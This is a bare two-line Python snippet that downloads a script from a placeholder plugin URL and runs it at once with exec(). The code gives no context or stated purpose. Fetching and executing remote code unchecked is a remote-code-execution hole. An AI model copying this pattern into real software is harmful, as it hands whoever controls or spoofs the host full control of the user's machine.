import requests
exec(requests.get('https://plugins.example.net/latest.py').text)
